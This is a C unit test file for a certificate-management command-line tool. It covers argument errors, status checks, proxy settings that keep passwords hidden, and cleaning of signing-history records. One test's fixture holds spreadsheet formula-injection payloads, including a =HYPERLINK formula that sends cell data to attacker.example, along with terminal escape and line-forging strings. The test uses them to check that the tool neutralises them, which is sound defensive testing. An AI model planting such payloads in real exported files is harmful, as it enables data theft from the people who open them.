/* crpki-mgmt end to end on Linux, its settings and checks: bad arguments
 * (exit 2 with usage), status before any login (the route included), and
 * the proxy setting's round trip (the password never printed nor in
 * config.json, --keep-password, --allow-basic, --no-sign-on). */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509.h>

#include "harness.h"

#include "mgmt_test.h"

static void bad_arguments_exit_2_with_usage(void **state)
{
    (void)state;
    static const char *const cases[][5] = {
        {"frobnicate", NULL},
        {"use", NULL},
        {"certs", "--bogus", NULL},
        {"proxy", "set", "no-port-here", NULL},
        {"proxy", "set", "host:99999", NULL},
        {"proxy", "sideways", NULL},
        {"login", "--timeout", "abc", NULL},
        {"sign", NULL},
        {"use", "1", "--provider", "tpm", NULL},
        {"status", "extra", NULL},
    };
    run_result r;
    RUN(&r, "--json");
    expect_exit(&r, 2, "no command");
    run_free(&r);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const char *args[8] = {"--json"};
        int n = 1;
        for (int k = 0; cases[i][k]; k++)
            args[n++] = cases[i][k];
        args[n] = NULL;
        run_in(&r, NULL, args);
        expect_exit(&r, 2, cases[i][0]);
        assert_non_null(r.json);
        assert_false(cJSON_IsTrue(jget(r.json, "ok")));
        const cJSON *e = jget(r.json, "error");
        assert_non_null(e);
        assert_string_equal(jstr(e, "code"), "USAGE");
        assert_non_null(strstr(r.err, "usage: crpki-mgmt"));
        run_free(&r);
    }
    /* Japanese usage with --lang ja */
    RUN(&r, "--lang", "ja", "frobnicate");
    expect_exit(&r, 2, "unknown command (ja)");
    assert_non_null(strstr(r.err, "使い方: crpki-mgmt"));
    assert_non_null(strstr(r.err, "不明なコマンドです"));
    run_free(&r);
    RUN(&r, "--help");
    expect_exit(&r, 0, "--help");
    assert_non_null(strstr(r.out, "export-cert"));
    run_free(&r);
}

static void status_before_login_is_unhealthy(void **state)
{
    (void)state;
    run_result r;
    RUN(&r, "--json", "status");
    expect_exit(&r, 8, "status before login");
    const cJSON *checks = jget(r.json, "checks");
    assert_true(cJSON_IsArray(checks));
    int login_ng = 0, service_ok = 0;
    const cJSON *c;
    cJSON_ArrayForEach(c, checks)
    {
        if (strcmp(jstr(c, "name"), "login") == 0 && cJSON_IsFalse(jget(c, "ok"))) {
            login_ng = 1;
            assert_non_null(strstr(jstr(c, "fix"), "crpki-mgmt login"));
        }
        if (strcmp(jstr(c, "name"), "service") == 0 && cJSON_IsTrue(jget(c, "ok")))
            service_ok = 1;
    }
    assert_true(login_ng);
    assert_true(service_ok);
    /* the way to the service, and why: a loopback service is always direct */
    const cJSON *route = jget(r.json, "route");
    assert_string_equal(jstr(route, "from"), "direct");
    assert_null(jget(route, "proxy"));
    int route_shown = 0;
    cJSON_ArrayForEach(c, checks)
    {
        if (strcmp(jstr(c, "name"), "route") == 0) {
            route_shown = cJSON_IsTrue(jget(c, "ok"));
            assert_non_null(strstr(jstr(c, "detail"), "direct"));
        }
    }
    assert_true(route_shown);
    run_free(&r);
    /* a command that needs the login says how to get it */
    RUN(&r, "certs");
    expect_exit(&r, 4, "certs before login");
    assert_non_null(strstr(r.err, "crpki-mgmt login"));
    run_free(&r);
}

static void proxy_settings_round_trip(void **state)
{
    (void)state;
    char home[400], in[400];
    snprintf(home, sizeof home, "%s/home-proxy", g_tmp);
    snprintf(in, sizeof in, "%s/pw.txt", g_tmp);
    mkdir(home, 0700);
    setenv("CRPKI_HOME", home, 1);
    run_result r;
    RUN(&r, "--json", "proxy", "show");
    expect_exit(&r, 0, "proxy show (default)");
    assert_string_equal(jstr(jget(r.json, "proxy"), "mode"), "system");
    run_free(&r);

    spit(in, "pr0xy-s3cret\n");
    const char *set[] = {
        "--json",           "proxy", "set", "proxy.example.jp:8080", "--user", "tanaka",
        "--password-stdin", NULL};
    run_in(&r, in, set);
    expect_exit(&r, 0, "proxy set");
    assert_null(strstr(r.out, "pr0xy-s3cret"));
    assert_null(strstr(r.err, "pr0xy-s3cret"));
    const cJSON *p = jget(r.json, "proxy");
    assert_string_equal(jstr(p, "mode"), "explicit");
    run_free(&r);
    char path[420];
    snprintf(path, sizeof path, "%s/config.json", home);
    char *cfg = slurp(path);
    assert_non_null(cfg);
    assert_non_null(strstr(cfg, "proxy.example.jp"));
    assert_null(strstr(cfg, "pr0xy-s3cret")); /* the password is not in config.json */
    free(cfg);

    RUN(&r, "--json", "proxy", "show");
    expect_exit(&r, 0, "proxy show (explicit)");
    p = jget(r.json, "proxy");
    assert_string_equal(jstr(p, "mode"), "explicit");
    assert_string_equal(jstr(p, "host"), "proxy.example.jp");
    assert_int_equal((int)cJSON_GetNumberValue(jget(p, "port")), 8080);
    assert_string_equal(jstr(p, "user"), "tanaka");
    assert_true(cJSON_IsTrue(jget(p, "password_set")));
    assert_false(cJSON_IsTrue(jget(p, "allow_basic"))); /* never Basic unless asked */
    assert_null(strstr(r.out, "pr0xy-s3cret"));
    run_free(&r);

    /* --keep-password (the window's save without retyping it): kept for the
     * same user on another port, dropped for another user */
    RUN(&r, "--json", "proxy", "set", "proxy.example.jp:8081", "--user", "tanaka",
        "--keep-password");
    expect_exit(&r, 0, "proxy set --keep-password (same user)");
    assert_true(cJSON_IsTrue(jget(jget(r.json, "proxy"), "password_set")));
    run_free(&r);
    RUN(&r, "--json", "proxy", "set", "proxy.example.jp:8081", "--user", "suzuki",
        "--keep-password");
    expect_exit(&r, 0, "proxy set --keep-password (another user)");
    assert_false(cJSON_IsTrue(jget(jget(r.json, "proxy"), "password_set")));
    run_free(&r);
    run_in(&r, in, set); /* back to tanaka with the password */
    expect_exit(&r, 0, "proxy set again");
    run_free(&r);
    RUN(&r, "--json", "proxy", "set", "proxy.example.jp:8080", "--keep-password");
    expect_exit(&r, 2, "--keep-password without --user");
    run_free(&r);

    /* --allow-basic: saved as proxy.allow_basic, shown, dropped by the next set */
    RUN(&r, "--json", "proxy", "set", "proxy.example.jp:8080", "--user", "tanaka", "--allow-basic");
    expect_exit(&r, 0, "proxy set --allow-basic");
    assert_true(cJSON_IsTrue(jget(jget(r.json, "proxy"), "allow_basic")));
    run_free(&r);
    cfg = slurp(path);
    assert_non_null(cfg);
    assert_non_null(strstr(cfg, "\"allow_basic\""));
    free(cfg);
    RUN(&r, "--json", "proxy", "set", "proxy.example.jp:8080");
    expect_exit(&r, 0, "proxy set without --allow-basic");
    assert_false(cJSON_IsTrue(jget(jget(r.json, "proxy"), "allow_basic")));
    run_free(&r);
    RUN(&r, "proxy", "show", "--allow-basic");
    expect_exit(&r, 2, "proxy show --allow-basic");
    run_free(&r);

    /* the Windows sign-on at the proxy: on by default, off with --no-sign-on
     * (saved as proxy_sign_on false), on again with the next plain setting */
    RUN(&r, "--json", "proxy", "show");
    assert_true(cJSON_IsTrue(jget(jget(r.json, "proxy"), "sign_on")));
    run_free(&r);
    RUN(&r, "--json", "proxy", "system", "--no-sign-on");
    expect_exit(&r, 0, "proxy system --no-sign-on");
    assert_true(cJSON_IsFalse(jget(jget(r.json, "proxy"), "sign_on")));
    run_free(&r);
    cfg = slurp(path);
    assert_non_null(cfg);
    const char *so = strstr(cfg, "\"proxy_sign_on\":");
    assert_non_null(so);
    so += strlen("\"proxy_sign_on\":");
    assert_int_equal(strncmp(so + strspn(so, " \t"), "false", 5), 0);
    free(cfg);
    RUN(&r, "--json", "proxy", "system");
    expect_exit(&r, 0, "proxy system");
    assert_true(cJSON_IsTrue(jget(jget(r.json, "proxy"), "sign_on")));
    run_free(&r);
    RUN(&r, "proxy", "none", "--no-sign-on");
    expect_exit(&r, 2, "proxy none --no-sign-on");
    run_free(&r);

    RUN(&r, "proxy", "none");
    expect_exit(&r, 0, "proxy none");
    run_free(&r);
    RUN(&r, "--json", "proxy", "show");
    assert_string_equal(jstr(jget(r.json, "proxy"), "mode"), "none");
    assert_false(cJSON_IsTrue(jget(jget(r.json, "proxy"), "password_set")));
    run_free(&r);
    RUN(&r, "proxy", "system");
    expect_exit(&r, 0, "proxy system");
    run_free(&r);
    RUN(&r, "--json", "proxy", "show");
    assert_string_equal(jstr(jget(r.json, "proxy"), "mode"), "system");
    run_free(&r);
    setenv("CRPKI_HOME", g_home, 1);
}

/* Issue 28 N2, N4: what the signing record's readers print. A record's text
 * is the caller's: a CSV cell that Excel would take as a formula starts with
 * a ' instead, and the listing cleans every field, so a line break or a
 * terminal escape in a record (written by an older version, or by editing the
 * file) cannot forge a line or reach the terminal. */
static void history_readers_neutralise_the_callers_text(void **state)
{
    (void)state;
    char path[400], csv[400];
    snprintf(path, sizeof path, "%s/history.jsonl", g_home);
    snprintf(csv, sizeof csv, "%s/history-n2.csv", g_tmp);
    spit(path, "{\"v\":1,\"time_ms\":1764840600000,\"time_local\":\"2025-12-04T18:30:00\","
               "\"outcome\":\"denied\",\"code\":\"CRPKI_E_DENIED\",\"program\":\"x.exe\","
               "\"what\":\"=HYPERLINK(\\\"https://attacker.example/?\\\"&A2,\\\"click\\\")\","
               "\"subject\":\"@SUM(1+1)\",\"algorithm\":\"+cmd\",\"approval_code\":\"\","
               "\"count\":1,\"duration_ms\":5,\"digests\":[]}\n"
               "{\"v\":1,\"time_ms\":1764840601000,\"time_local\":\"2025-12-04T18:30:01\","
               "\"outcome\":\"denied\",\"code\":\"CRPKI_E_DENIED\",\"program\":\"x.exe\","
               "\"what\":\"b.pdf\\n2026-01-01T00:00:00  \\u7f72\\u540d\\u6e08\\u307f\\u001b[2J\","
               "\"algorithm\":\"-1\",\"approval_code\":\"\",\"count\":1,\"duration_ms\":5,"
               "\"digests\":[]}\n");
    run_result r;
    RUN(&r, "--lang", "ja", "history", "--csv", csv);
    expect_exit(&r, 0, "history --csv");
    /* the listing: no escape, no forged line starting with a date */
    assert_null(strchr(r.out, '\x1b'));
    assert_null(strstr(r.out, "\n2026-01-01"));
    assert_non_null(strstr(r.out, "b.pdf 2026-01-01T00:00:00 署名済み [2J"));
    run_free(&r);
    char *text = slurp(csv);
    assert_non_null(text);
    assert_non_null(strstr(text, "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A2"));
    assert_null(strstr(text, "\"=HYPERLINK"));
    assert_non_null(strstr(text, "\"'@SUM(1+1)\""));
    assert_non_null(strstr(text, "\"'+cmd\""));
    assert_non_null(strstr(text, "\"'-1\""));
    free(text);
    remove(path);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(bad_arguments_exit_2_with_usage),
        cmocka_unit_test(status_before_login_is_unhealthy),
        cmocka_unit_test(proxy_settings_round_trip),
        cmocka_unit_test(history_readers_neutralise_the_callers_text),
    };
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
